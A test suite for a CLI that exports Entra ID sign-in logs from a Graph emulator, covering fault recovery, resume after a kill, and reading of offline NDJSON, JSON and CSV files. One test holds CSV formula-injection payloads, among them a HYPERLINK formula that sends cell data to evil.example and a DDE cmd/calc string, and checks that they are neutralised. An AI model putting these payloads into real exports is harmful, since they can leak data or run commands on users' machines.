/**
 * Exports against the emulator over HTTPS, through the real MSAL and Graph client: every fault knob during an
 * export of 20 pages ends with exactly the emulator's ids; resume after a kill; offline files of each format.
 * (3,000 records in pages of 150: as many requests, and so as many faults served, as 20,000 in pages of 1,000,
 * a seventh of the bytes; one export of each format is read by every check of that format.)
 */
import {spawn, spawnSync} from 'node:child_process';
import {existsSync} from 'node:fs';
import {appendFile, readFile, writeFile} from 'node:fs/promises';
import {join} from 'node:path';
import {afterAll, beforeAll, beforeEach, describe, expect, it} from 'vitest';
import {startTestEmulator, TEST_NOW, type TestEmulator} from '../helpers/emulator.js';
import {signedInClient, type TestClient} from '../helpers/client.js';
import {generateTenant} from '../../source/emulator/tenant/tenant.js';
import {resolveQuery, type Query} from '../../source/query/query.js';
import {GraphSource} from '../../source/sources/graph-source.js';
import {FileSource} from '../../source/sources/file-source.js';
import {scanJsonRecords} from '../../source/sources/json-scan.js';
import {checkpointPath, runExport, type ExportFormat} from '../../source/export/export.js';
import {GraphError} from '../../source/graph/errors.js';
import {GraphClient} from '../../source/graph/client.js';
import {parseCsv} from '../../source/export/csv.js';
import type {Faults} from '../../source/emulator/server.js';

const ALL_TYPES: Query = {
	report: 'signins',
	filters: {},
	order: 'newest',
	eventTypes: ['interactive', 'non-interactive', 'service-principal', 'managed-identity'],
};

let emu: TestEmulator;
let c: TestClient;
const RECORDS = 3000;
/** Records per page: 20 pages in all. */
const PAGE = 150;
const tenant = generateTenant({seed: 'export', now: TEST_NOW, signIns: RECORDS, hostileRecords: 3});

beforeAll(async () => {
	emu = await startTestEmulator({tenant, pollInterval: 0});
	c = await signedInClient(emu);
});
beforeEach(() => emu.setFaults({}));
afterAll(() => emu.close());

/**
 * The rows of a CSV file as Python's csv module reads it (newline=''), once it has checked that every line break
 * outside a quoted cell is CRLF, one per row (RFC 4180).
 */
function pythonCsv(file: string): string[][] {
	const script = `
import csv, json, re, sys
with open(sys.argv[1], newline='', encoding='utf-8') as f:
    rows = list(csv.reader(f))
with open(sys.argv[1], newline='', encoding='utf-8') as f:
    bare = re.sub(r'"(?:[^"]|"")*"', '', f.read())
breaks = re.findall(r'\\r\\n|\\r|\\n', bare)
if breaks != ['\\r\\n'] * len(rows):
    sys.exit('line breaks outside quoted cells: %r for %d rows' % (sorted(set(breaks)), len(rows)))
print(json.dumps(rows))
`;
	const r = spawnSync('python3', ['-c', script, file], {encoding: 'utf8', maxBuffer: 1e9});
	expect(r.status, r.stderr).toBe(0);
	return JSON.parse(r.stdout) as string[][];
}

function source(query: Query, pageSize = PAGE): GraphSource {
	return new GraphSource(c.client, resolveQuery(query, TEST_NOW), query, {graphBase: emu.origin, pageSize});
}

async function exportFile(query: Query, format: ExportFormat, name: string): Promise<string> {
	const out = join(c.dir, name);
	await runExport({source: source(query), report: query.report, format, out, queryKey: name});
	return out;
}

/** The built CLI, offline (no emulator needed): its exit code and output. */
function runCli(args: string[]): Promise<{code: number | null; stdout: string; stderr: string}> {
	return new Promise(resolve => {
		const child = spawn(process.execPath, [join(process.cwd(), 'dist', 'cli.js'), ...args], {
			stdio: ['ignore', 'pipe', 'pipe'],
		});
		const out: Buffer[] = [];
		let stderr = '';
		child.stdout.on('data', (d: Buffer) => out.push(d));
		child.stderr.on('data', (d: Buffer) => {
			stderr += d.toString();
		});
		child.on('close', code => resolve({code, stdout: Buffer.concat(out).toString('utf8'), stderr}));
	});
}

const ids = async (file: string): Promise<string[]> =>
	(await readFile(file, 'utf8'))
		.split('\n')
		.filter(Boolean)
		.map(l => (JSON.parse(l) as {id: string}).id);

describe('a 20-page export under each fault', () => {
	const expected = (): string[] => tenant.signIns.map(r => r.id);

	it.each<[string, Partial<Faults>]>([
		['no faults', {}],
		['429 with fractional Retry-After', {throttleEvery: 3, retryAfter: '0.02'}],
		['503', {unavailableEvery: 4, retryAfter: '0.01'}],
		['connection reset mid-body', {dropEvery: 5}],
		['truncated JSON', {truncateEvery: 3}],
		['401 token expiry', {expireTokenEvery: 4}],
	])("%s: exactly the emulator's ids, none missing or doubled", async (name, faults) => {
		emu.setFaults(faults);
		const before = c.retries.length;
		const file = await exportFile(ALL_TYPES, 'ndjson', `faults-${name.replace(/\W+/g, '-')}.ndjson`);
		const got = await ids(file);
		expect(got.length).toBe(RECORDS);
		expect(new Set(got).size).toBe(RECORDS);
		expect(got).toEqual(expected());
		expect(existsSync(checkpointPath(file))).toBe(false);
		if (faults.throttleEvery || faults.unavailableEvery || faults.dropEvery || faults.truncateEvery) {
			expect(c.retries.length).toBeGreaterThan(before);
		}
		if (faults.throttleEvery) expect(c.retries.slice(before).some(r => r.delayMs === 20)).toBe(true);
	});

	it('a failure that outlasts the retries leaves a checkpoint; resume finishes without loss or doubles', async () => {
		const out = join(c.dir, 'broken.ndjson');
		emu.setFaults({unavailableEvery: 1, retryAfter: '0'});
		// Let three pages through, then fail for good.
		let pages = 0;
		const flaky = {
			origin: source(ALL_TYPES).origin,
			async *pages(signal?: AbortSignal, from?: string) {
				for await (const page of source(ALL_TYPES).pages(signal, from)) {
					yield page;
					if (++pages === 3) throw new Error('simulated crash');
				}
			},
		};
		emu.setFaults({});
		await expect(runExport({source: flaky, report: 'signins', format: 'ndjson', out, queryKey: 'k'})).rejects.toThrow(
			'simulated crash',
		);
		// Half a page on disk past the checkpoint: resume must drop it.
		await writeFile(out, '{"id":"half-written', {flag: 'a'});
		const cp = JSON.parse(await readFile(checkpointPath(out), 'utf8')) as {records: number};
		expect(cp.records).toBe(3 * PAGE);
		await runExport({source: source(ALL_TYPES), report: 'signins', format: 'ndjson', out, resume: true, queryKey: 'k'});
		expect(await ids(out)).toEqual(tenant.signIns.map(r => r.id));
		await expect(
			runExport({source: source(ALL_TYPES), report: 'signins', format: 'ndjson', out, resume: true, queryKey: 'k'}),
		).rejects.toThrow('nothing to resume');
	});

	it('resuming with another query is refused', async () => {
		const out = join(c.dir, 'other.ndjson');
		const stop = new AbortController();
		let n = 0;
		await expect(
			runExport({
				source: source(ALL_TYPES),
				report: 'signins',
				format: 'ndjson',
				out,
				queryKey: 'first',
				signal: stop.signal,
				onProgress: () => {
					if (++n === 2) stop.abort(new Error('stop'));
				},
			}),
		).rejects.toBeDefined();
		await expect(
			runExport({
				source: source(ALL_TYPES),
				report: 'signins',
				format: 'ndjson',
				out,
				resume: true,
				queryKey: 'second',
			}),
		).rejects.toThrow('another query');
	});
});

describe('resume after the process is killed', () => {
	it('the built CLI, killed mid-export, finishes with --resume', async () => {
		const cli = join(process.cwd(), 'dist', 'cli.js');
		expect(existsSync(cli), 'run npm run build first').toBe(true);
		const caFile = join(c.dir, 'ca.pem');
		await writeFile(caFile, emu.caCert);
		const env = {...process.env, ENTRA_LOGS_CONFIG_DIR: join(c.dir, 'cfg'), CI: 'false'};
		const args = ['--emulator', emu.origin, '--ca-file', caFile, '--tenant', emu.tenantId];
		const run = (extra: string[]): Promise<{code: number | null; stderr: string}> =>
			new Promise(resolve => {
				const child = spawn(process.execPath, [cli, ...extra, ...args], {env, stdio: ['ignore', 'ignore', 'pipe']});
				let stderr = '';
				child.stderr.on('data', (d: Buffer) => {
					stderr += d.toString();
					const code = /enter the code (\w+)/.exec(stderr)?.[1];
					if (code && !stderr.includes('[approved]')) {
						stderr += '[approved]';
						void emu.control('approve', {user_code: code});
					}
				});
				child.on('exit', code => resolve({code, stderr}));
			});
		const login = await run(['login']);
		expect(login.code, login.stderr).toBe(0);

		const out = join(c.dir, 'killed.ndjson');
		emu.setFaults({latencyMs: 150});
		// A relative time, as people write it: the resume runs seconds later, when "3650d" means another instant. (Long
		// enough to hold the test tenant, whose records end on a fixed day, whatever day the test runs.)
		const exportArgs = [
			'signins',
			'--since',
			'3650d',
			'--type',
			'interactive,non-interactive,service-principal,managed-identity',
			'--output',
			'ndjson',
			'--out',
			out,
			'--page-size',
			'100',
		];
		const child = spawn(process.execPath, [cli, ...exportArgs, ...args], {env, stdio: ['ignore', 'ignore', 'pipe']});
		// Kill it hard once a few pages are on disk (a loaded machine may take a while to start it).
		for (const started = Date.now(); Date.now() - started < 90_000;) {
			await new Promise(r => setTimeout(r, 50));
			if (existsSync(checkpointPath(out))) {
				const cp = JSON.parse(await readFile(checkpointPath(out), 'utf8').catch(() => '{}')) as {records?: number};
				if ((cp.records ?? 0) >= 300) break;
			}
		}
		child.kill('SIGKILL');
		await new Promise(r => child.on('exit', r));
		const partial = await ids(out).catch(() => []);
		expect(partial.length).toBeLessThan(RECORDS);
		emu.setFaults({});
		await new Promise(r => setTimeout(r, 1100));
		// The same command without --resume does not start over on top of it: it says how to finish.
		const before = await readFile(out);
		const again = await run(exportArgs);
		expect(again.code).toBe(2);
		expect(again.stderr.trim()).toBe(
			`entra-logs: ${out} holds an interrupted export of this query: add --resume to finish it, or remove the file to start again`,
		);
		expect((await readFile(out)).equals(before)).toBe(true);
		const resumed = await run([...exportArgs, '--resume']);
		expect(resumed.code, resumed.stderr).toBe(0);
		expect(await ids(out)).toEqual(tenant.signIns.map(r => r.id));
	}, 180_000);
});

describe('error mapping', () => {
	it('an unlicensed tenant gives a typed error with the request-id and a hint', async () => {
		await emu.control('license', {license: 'free'});
		try {
			const error = await source(ALL_TYPES)
				.pages()
				[Symbol.asyncIterator]()
				.next()
				.catch((e: unknown) => e);
			expect(error).toBeInstanceOf(GraphError);
			const g = error as GraphError;
			expect(g.status).toBe(403);
			expect(g.code).toBe('Authentication_RequestFromNonPremiumTenantOrB2CTenant');
			expect(g.requestId).toMatch(/^[0-9a-f-]{36}$/);
			expect(g.oneLine()).toContain('P1 or P2');
		} finally {
			await emu.control('license', {license: 'p2'});
		}
	});

	it("an account without a reporting role, and throttling that outlasts the retries: Graph's words, request-id, what to do", async () => {
		const plain = tenant.users.find(u => !u.isAdmin)!;
		const token = await emu.token(plain.userPrincipalName);
		const client = new GraphClient({
			network: emu.network,
			getToken: async () => token,
			rateLimit: null,
			baseDelayMs: 5,
			maxDelayMs: 20,
			maxRetries: 2,
		});
		const url = `${emu.origin}/v1.0/auditLogs/directoryAudits`;
		const denied = (await client.getPage(url).catch((e: unknown) => e)) as GraphError;
		expect(denied).toBeInstanceOf(GraphError);
		expect(denied.code).toBe('Authentication_RequestFromUnsupportedUserRole');
		expect(denied.oneLine()).toMatch(
			/^User is not in the allowed roles \(Authentication_RequestFromUnsupportedUserRole, HTTP 403, request-id [0-9a-f-]{36}\)\. Your account needs a reporting role: Reports Reader/,
		);

		emu.setFaults({throttleEvery: 1, retryAfter: '0.01'});
		const slow = new GraphClient({
			network: emu.network,
			getToken: o => c.auth.getToken(o),
			rateLimit: null,
			baseDelayMs: 5,
			maxDelayMs: 20,
			maxRetries: 2,
		});
		const gaveUp = (await slow.getPage(url).catch((e: unknown) => e)) as GraphError;
		expect(gaveUp).toBeInstanceOf(GraphError);
		expect(gaveUp.status).toBe(429);
		expect(gaveUp.requestId).toMatch(/^[0-9a-f-]{36}$/);
		expect(gaveUp.oneLine()).toContain(
			'Graph is throttling this app (reports allow 5 requests per 10 seconds per app per tenant)',
		);
	});

	it('a raw filter Graph rejects gives "Invalid filter clause" and a hint about documented fields', async () => {
		const query: Query = {...ALL_TYPES, rawFilter: 'status/errorCode ne 0'};
		const error = (await source(query)
			.pages()
			[Symbol.asyncIterator]()
			.next()
			.catch((e: unknown) => e)) as GraphError;
		expect(error.code).toBe('BadRequest');
		expect(error.graphMessage).toBe('Invalid filter clause');
		expect(error.oneLine()).toContain('documented fields');
	});
});

describe('offline files', () => {
	// Neither success (0) nor an interrupt: the codes named *Interrupt in shared/aadsts-codes.md and issue 9's prompts.
	const interrupts = new Set([50072, 50074, 50125, 50140, 50076, 50079, 50058, 50097]);
	const failures = (): string[] =>
		tenant.signIns
			.filter(r => {
				const code = (r['status'] as {errorCode: unknown}).errorCode;
				return typeof code === 'number' && code !== 0 && !interrupts.has(code);
			})
			.map(r => r.id);
	const failureQuery: Query = {report: 'signins', filters: {status: 'failure'}, order: 'newest'};

	async function offline(file: string, query: Query): Promise<string[]> {
		const got: string[] = [];
		for await (const page of new FileSource(file, resolveQuery(query, TEST_NOW)).pages())
			got.push(...page.records.map(r => r.id));
		return got;
	}

	/** The whole tenant exported in a format, once: each check of that format reads the same file. */
	const exports = new Map<ExportFormat, Promise<string>>();
	const exported = (format: ExportFormat): Promise<string> => {
		if (!exports.has(format)) exports.set(format, exportFile(ALL_TYPES, format, `all.${format}`));
		return exports.get(format)!;
	};

	it.each(['ndjson', 'json', 'csv'] as const)('our %s export reads back, filters apply locally', async format => {
		const file = await exported(format);
		expect(await offline(file, failureQuery)).toEqual(failures());
		const alice = await offline(file, {report: 'signins', filters: {user: 'ALICE@contoso.com'}, order: 'newest'});
		expect(alice).toEqual(tenant.signIns.filter(r => r['userPrincipalName'] === 'alice@contoso.com').map(r => r.id));
		expect(alice.length).toBeGreaterThan(0);
	});

	it('CSV ends in a derived outcome column (interrupts apart from failures), which reading the file back leaves out', async () => {
		const file = await exported('csv');
		const rows = parseCsv(await readFile(file, 'utf8'));
		expect(rows[0]!.at(-1)).toBe('outcome');
		const expected = (r: Record<string, unknown> | undefined): string => {
			const code = (r?.['status'] as {errorCode?: unknown} | undefined)?.errorCode;
			if (typeof code !== 'number') return 'unknown';
			return code === 0 ? 'success' : interrupts.has(code) ? 'interrupted' : 'failure';
		};
		const byId = new Map(tenant.signIns.map(r => [r.id, r]));
		const seen = new Map<string, number>();
		for (const row of rows.slice(1)) {
			expect(row.at(-1), row[0]).toBe(expected(byId.get(row[0]!)));
			seen.set(row.at(-1)!, (seen.get(row.at(-1)!) ?? 0) + 1);
		}
		for (const o of ['success', 'interrupted', 'failure']) expect(seen.get(o), o).toBeGreaterThan(10);
		// Read back, a record holds only what Graph sent: no outcome property.
		let read = 0;
		for await (const page of new FileSource(file, resolveQuery(ALL_TYPES, TEST_NOW)).pages())
			for (const r of page.records) {
				expect(Object.keys(r)).not.toContain('outcome');
				read++;
			}
		expect(read).toBe(rows.length - 1);
	});

	it('CSV columns are stable and hostile strings stay data', async () => {
		const file = await exported('csv');
		const rows = parseCsv(await readFile(file, 'utf8'));
		expect(rows[0]![0]).toBe('id');
		expect(new Set(rows.slice(1).map(r => r.length)).size).toBe(1);
		expect(rows.length).toBe(RECORDS + 1);
		// RFC 4180 line ends (CRLF, as Excel and the admin center's downloads write them), by an independent reader.
		expect(pythonCsv(file)).toEqual(rows);

		// Text a spreadsheet would run as a formula is disarmed with an apostrophe, and read back as it was.
		const formulas = [
			'=HYPERLINK("http://evil.example/?"&A1,"click")',
			"+cmd|' /C calc'!A0",
			'-2+3',
			'@SUM(1,2)',
			'\t=1',
			"'=already",
			'plain',
			'-12.5',
			'two\nlines',
			'crlf\r\ninside',
		];
		const source = join(c.dir, 'formulas.ndjson');
		await writeFile(
			source,
			formulas.map((f, i) => JSON.stringify({...tenant.signIns[i], userAgent: f, appDisplayName: f})).join('\n'),
		);
		const query: Query = {report: 'signins', filters: {}, order: 'newest'};
		const csv = join(c.dir, 'formulas.csv');
		await runExport({
			source: new FileSource(source, resolveQuery(query, TEST_NOW)),
			report: 'signins',
			format: 'csv',
			out: csv,
			queryKey: 'formulas',
		});
		const table = parseCsv(await readFile(csv, 'utf8'));
		// Line breaks inside a quoted cell stay as the record had them.
		expect(pythonCsv(csv)).toEqual(table);
		const agent = table[0]!.indexOf('userAgent');
		const cells = new Set(table.slice(1).map(r => r[agent]!));
		for (const f of formulas) {
			const disarmed = /^'*[=+\-@\t\r]/.test(f) && !/^[+-]?\d+(\.\d+)?$/.test(f);
			expect(cells.has(disarmed ? `'${f}` : f), f).toBe(true);
		}
		const back: string[] = [];
		for await (const page of new FileSource(csv, resolveQuery(query, TEST_NOW)).pages())
			back.push(...page.records.map(r => String(r['appDisplayName'])));
		expect(back.sort()).toEqual([...formulas].sort());
	});

	it('Graph page files, as scripts save them, one page or several', async () => {
		const res = await emu.network.fetch(
			`${emu.origin}/beta/auditLogs/signIns?$top=50&$filter=${encodeURIComponent("signInEventTypes/any(t: t eq 'nonInteractiveUser')")}`,
			{headers: {authorization: `Bearer ${await c.auth.getToken()}`}},
		);
		const page = await res.text();
		const file = join(c.dir, 'page.json');
		await writeFile(file, page);
		const want = (JSON.parse(page) as {value: Array<{id: string}>}).value.map(r => r.id);
		expect(await offline(file, {report: 'signins', filters: {}, order: 'newest'})).toEqual(want);
		const two = join(c.dir, 'pages.json');
		await writeFile(two, `${page}\n${page.replace(/"id":"/g, '"id":"x')}\n`);
		expect((await offline(two, {report: 'signins', filters: {}, order: 'newest'})).length).toBe(100);
	});

	it('JSON larger than any one read (pretty-printed, Graph pages a line each), as the CLI opens it: record by record', async () => {
		// 2,000 records (~15 MB pretty-printed): the first record lies past the 2 MB head, records cross 1 MiB reads.
		const picked = tenant.signIns.slice(0, 2000);
		// Strings that trip a naive scanner: escaped quotes, backslash runs, braces and brackets inside values.
		const tricky = picked.map((r, i) =>
			i % 97 === 0 ? {...r, userAgent: `a \\"}]{[ b \\\\ ${'\\'.repeat(i % 5)}"`} : r,
		);
		const pretty = join(c.dir, 'portal-download.json');
		await writeFile(pretty, `\uFEFF${JSON.stringify([...tricky].reverse(), null, 2)}`);
		const pages = join(c.dir, 'graph-pages.json');
		await writeFile(
			pages,
			[0, 1, 2, 3]
				.map(p =>
					JSON.stringify({
						'@odata.context': 'https://graph.microsoft.com/beta/$metadata#auditLogs/signIns',
						value: tricky.slice(p * 500, (p + 1) * 500),
						'@odata.nextLink': 'https://graph.microsoft.com/beta/auditLogs/signIns?$skiptoken=x"]',
					}),
				)
				.join('\n'),
		);
		const all: Query = {report: 'signins', filters: {}, order: 'newest'};
		for (const file of [pretty, pages]) {
			expect((await readFile(file)).length).toBeGreaterThan(4 << 20);
			const r = await runCli(['open', file, '--output', 'ndjson']);
			expect(r.code).toBe(0);
			const got = r.stdout
				.trim()
				.split('\n')
				.map(l => JSON.parse(l) as {id: string; userAgent: string; createdDateTime: string});
			// Every record once, newest first (records of the same second in either order), each one intact.
			expect(got).toHaveLength(tricky.length);
			expect(new Set(got.map(x => x.id))).toEqual(new Set(tricky.map(x => x.id)));
			expect(got.map(x => x.createdDateTime)).toEqual(tricky.map(x => x['createdDateTime']));
			const agents = new Map(tricky.map(x => [x.id, x['userAgent']]));
			for (const x of got) expect(x.userAgent).toBe(agents.get(x.id));
			const alice = await offline(file, {...all, filters: {user: 'alice@contoso.com'}});
			expect(new Set(alice)).toEqual(
				new Set(tricky.filter(x => x['userPrincipalName'] === 'alice@contoso.com').map(x => x.id)),
			);
			expect(alice.length).toBeGreaterThan(0);
		}
		// Backslashes and an escaped quote that straddle the 1 MiB read boundary, at every offset around it.
		for (let shift = -4; shift <= 4; shift++) {
			const value = `${'x'.repeat((1 << 20) - 22 + shift)}\\\\\\"}]`;
			const edge = join(c.dir, `edge${shift}.json`);
			await writeFile(
				edge,
				JSON.stringify([
					{id: 'one', v: value},
					{id: 'two', v: '{'},
				]),
			);
			const seen: Array<{id: string; v: string}> = [];
			await scanJsonRecords(edge, bytes => {
				seen.push(JSON.parse(bytes.toString('utf8')) as {id: string; v: string});
			});
			expect(seen).toEqual([
				{id: 'one', v: value},
				{id: 'two', v: '{'},
			]);
		}
		// A download cut short inside a record: the records before it read, and the note says what was left out.
		const cut = join(c.dir, 'cut-download.json');
		const text = JSON.stringify(tricky.slice(0, 10), null, 2);
		await writeFile(cut, text.slice(0, text.lastIndexOf('"id"')));
		const notes: string[] = [];
		const read: string[] = [];
		for await (const page of new FileSource(cut, resolveQuery(all, TEST_NOW), n => notes.push(n)).pages())
			read.push(...page.records.map(x => x.id));
		expect(read).toEqual(tricky.slice(0, 9).map(x => x.id));
		expect(notes).toEqual([`${cut} record 10, the last, is cut short (an interrupted write?) and was left out`]);
	});

	it('an admin-center CSV download, matched by column names', async () => {
		const file = join(c.dir, 'portal.csv');
		await writeFile(
			file,
			[
				'Date (UTC),Request ID,User agent,Correlation ID,User ID,User,Username,Application,Application ID,IP address,Location,Status,Sign-in error code,Failure reason,Client app,Autonomous system  number,Token issuer type,Managed Identity type,Associated Resource Id',
				'2026-11-19T10:00:00Z,r-1,Mozilla,c-1,u-1,Alice,alice@contoso.com,Microsoft Teams,1fec8e78-bce4-4aaf-ab1b-5451cc387264,81.2.1.1,"London, England, GB",Failure,50126,Error validating credentials,Browser,2856,AzureAD,,',
				'2026-11-19T11:00:00Z,r-2,Mozilla,c-2,u-2,Bob,bob@contoso.com,OfficeHome,4765445b-32c6-49b0-83e6-1d93765276ca,74.125.1.1,"New York, New York, US",Success,0,,Browser,701,AzureAD,userAssigned,/subscriptions/s/resourceGroups/rg/providers/Microsoft.Compute/virtualMachines/vm1',
			].join('\r\n'),
		);
		expect(await offline(file, {report: 'signins', filters: {}, order: 'newest'})).toEqual(['r-2', 'r-1']);
		expect(
			await offline(file, {report: 'signins', filters: {status: 'failure', country: 'gb'}, order: 'newest'}),
		).toEqual(['r-1']);
		const records: Array<Record<string, unknown>> = [];
		for await (const page of new FileSource(
			file,
			resolveQuery({report: 'signins', filters: {}, order: 'newest'}, TEST_NOW),
		).pages())
			records.push(...page.records);
		expect(records[0]).toMatchObject({
			autonomousSystemNumber: 701,
			tokenIssuerType: 'AzureAD',
			managedServiceIdentity: {
				msiType: 'userAssigned',
				associatedResourceId: '/subscriptions/s/resourceGroups/rg/providers/Microsoft.Compute/virtualMachines/vm1',
			},
		});
	});

	it('NDJSON (and JSON a record per line) out of order, with CRLF, blank lines, legacy lines and lines without a time: newest first, read back by offset', async () => {
		const file = join(c.dir, 'mixed.ndjson');
		const picked = tenant.signIns.slice(0, 300);
		// Shuffled deterministically, one legacy-shaped line, a blank line, a line without any time, Windows line ends.
		const shuffled = picked
			.map((r, i) => ({r, k: (i * 7919) % 300}))
			.sort((a, b) => a.k - b.k)
			.map(x => JSON.stringify(x.r));
		const lines = [
			...shuffled.slice(0, 100),
			'',
			JSON.stringify({
				id: 'legacy-1',
				signinDateTime: '2026-11-20T11:59:59Z',
				userPrincipalName: 'zed@contoso.com',
				loginStatus: 1,
			}),
			'{"id":"no-time","userPrincipalName":"x@contoso.com"}',
			...shuffled.slice(100),
		];
		await writeFile(file, `${lines.join('\r\n')}\r\n`);
		const newestFirst = [
			...picked.map(r => ({id: r.id, t: r['createdDateTime'] as string})),
			{id: 'legacy-1', t: '2026-11-20T11:59:59Z'},
		]
			.sort((a, b) => (a.t === b.t ? 0 : a.t < b.t ? 1 : -1))
			.map(x => x.id);
		const got = await offline(file, {report: 'signins', filters: {}, order: 'newest'});
		expect(got).toHaveLength(301);
		expect(new Set(got)).toEqual(new Set(newestFirst));
		const times = new Map([
			...picked.map(r => [r.id, r['createdDateTime'] as string] as const),
			['legacy-1', '2026-11-20T11:59:59Z'] as const,
		]);
		expect(got.map(id => times.get(id)!)).toEqual(newestFirst.map(id => times.get(id)!));
		expect(
			await offline(file, {report: 'signins', filters: {user: 'zed@contoso.com', status: 'failure'}, order: 'newest'}),
		).toEqual(['legacy-1']);
		// Blank lines before the first record change nothing (the layout is read from the first line with text).
		const padded = join(c.dir, 'padded.ndjson');
		await writeFile(padded, `\r\n\n${lines.join('\n')}\n`);
		expect(await offline(padded, {report: 'signins', filters: {}, order: 'newest'})).toEqual(got);
		// Oldest first (--order oldest): the same records the other way round.
		expect(await offline(file, {report: 'signins', filters: {}, order: 'oldest'})).toEqual([...got].reverse());
		// The file changes between two queries (an export still being written): the next query reads what is there now.
		await appendFile(
			file,
			`${JSON.stringify({...picked[0], id: 'appended', createdDateTime: '2026-11-20T12:00:00Z'})}\n`,
		);
		expect((await offline(file, {report: 'signins', filters: {}, order: 'newest'}))[0]).toBe('appended');
		// A broken line is left out, and the note says which: the lines of NDJSON stand alone.
		const broken = join(c.dir, 'broken.ndjson');
		await writeFile(broken, `${shuffled[0]}\n${shuffled[1]!.slice(0, 200)}\n${shuffled[2]}\n`);
		const brokenNotes: string[] = [];
		const kept: string[] = [];
		for await (const page of new FileSource(
			broken,
			resolveQuery({report: 'signins', filters: {}, order: 'newest'}, TEST_NOW),
			n => brokenNotes.push(n),
		).pages())
			kept.push(...page.records.map(r => r.id));
		expect(kept.sort()).toEqual([JSON.parse(shuffled[0]!).id, JSON.parse(shuffled[2]!).id].sort());
		expect(brokenNotes).toEqual([`${broken}: 1 line skipped: 1 not a JSON object (line 2)`]);
		// The last line cut short (a killed export or redirect): the rest reads, and the caller is told.
		const cut = join(c.dir, 'cut.ndjson');
		await writeFile(cut, `${shuffled[0]}\n${shuffled[1]}\n${shuffled[2]!.slice(0, 200)}`);
		const notes: string[] = [];
		const read: string[] = [];
		for await (const page of new FileSource(
			cut,
			resolveQuery({report: 'signins', filters: {}, order: 'newest'}, TEST_NOW),
			n => notes.push(n),
		).pages())
			read.push(...page.records.map(r => r.id));
		expect(read.sort()).toEqual([JSON.parse(shuffled[0]!).id, JSON.parse(shuffled[1]!).id].sort());
		expect(notes).toEqual([`${cut} line 3, the last, is cut short (an interrupted write?) and was left out`]);
		// A JSON array a record per line (our JSON export, read by line) and pretty-printed (read whole): the same.
		const five = picked.slice(0, 5);
		const byLine = join(c.dir, 'lines.json');
		await writeFile(
			byLine,
			`[\n${[...five]
				.reverse()
				.map(r => JSON.stringify(r))
				.join(',\n')}\n]\n`,
		);
		const pretty = join(c.dir, 'pretty.json');
		await writeFile(pretty, JSON.stringify([...five].reverse(), null, 2));
		// Written in reverse: both must come back newest first (the tenant's order).
		const want = five.map(r => r.id);
		expect(await offline(byLine, {report: 'signins', filters: {}, order: 'newest'})).toEqual(want);
		expect(await offline(pretty, {report: 'signins', filters: {}, order: 'newest'})).toEqual(want);
	});

	it('CSV read a row at a time: quoted line breaks, commas and quotes, rows across read chunks, out of order', async () => {
		const file = join(c.dir, 'multiline.csv');
		const n = 12_000;
		// Long quoted cells, so that read chunks (1 MiB) end inside one, mid line break or not.
		const agent = (i: number): string => `Agent ${i}\r\nsecond line, with "quotes" ${'x'.repeat(i % 200)}\nthird`;
		const time = (i: number): string =>
			new Date(Date.UTC(2026, 10, 1) + ((i * 7919) % n) * 60_000).toISOString().replace('.000Z', 'Z');
		const quote = (v: string): string => `"${v.replace(/"/g, '""')}"`;
		const rows = Array.from({length: n}, (_, i) => [`r-${i}`, time(i), `u${i}@contoso.com`, quote(agent(i))].join(','));
		await writeFile(file, `\uFEFFid,createdDateTime,userPrincipalName,userAgent\r\n${rows.join('\r\n')}\r\n`);
		expect((await readFile(file)).length).toBeGreaterThan(1 << 20);
		const got: Array<{id: string; createdDateTime: string; userAgent: string}> = [];
		for await (const page of new FileSource(
			file,
			resolveQuery({report: 'signins', filters: {}, order: 'newest'}, TEST_NOW),
		).pages()) {
			got.push(...(page.records as unknown as typeof got));
		}
		expect(got).toHaveLength(n);
		expect(new Set(got.map(r => r.id)).size).toBe(n);
		for (const r of got) expect(r.userAgent).toBe(agent(Number(r.id.slice(2))));
		const times = got.map(r => r.createdDateTime);
		expect(times).toEqual([...times].sort().reverse());
		expect(await offline(file, {report: 'signins', filters: {user: 'u4242@contoso.com'}, order: 'newest'})).toEqual([
			'r-4242',
		]);
		// Oldest first across pages: the exact reverse, page after page.
		expect(await offline(file, {report: 'signins', filters: {}, order: 'oldest'})).toEqual(
			got.map(r => r.id).reverse(),
		);
	});

	it("legacy Azure AD Graph records map onto Graph's fields", async () => {
		const file = join(c.dir, 'legacy.json');
		await writeFile(
			file,
			JSON.stringify([
				{
					id: 'l-1',
					signinDateTime: '2017-03-01T10:00:00Z',
					userPrincipalName: 'alice@contoso.com',
					loginStatus: 1,
					signinErrorCode: 50126,
				},
				{id: 'l-2', signinDateTime: '2017-03-02T10:00:00Z', userPrincipalName: 'alice@contoso.com', loginStatus: 0},
			]),
		);
		expect(await offline(file, {report: 'signins', filters: {status: 'failure'}, order: 'newest'})).toEqual(['l-1']);
		expect(
			await offline(file, {report: 'signins', filters: {}, since: '2017-03-02T00:00:00Z', order: 'newest'}),
		).toEqual(['l-2']);
	});
});
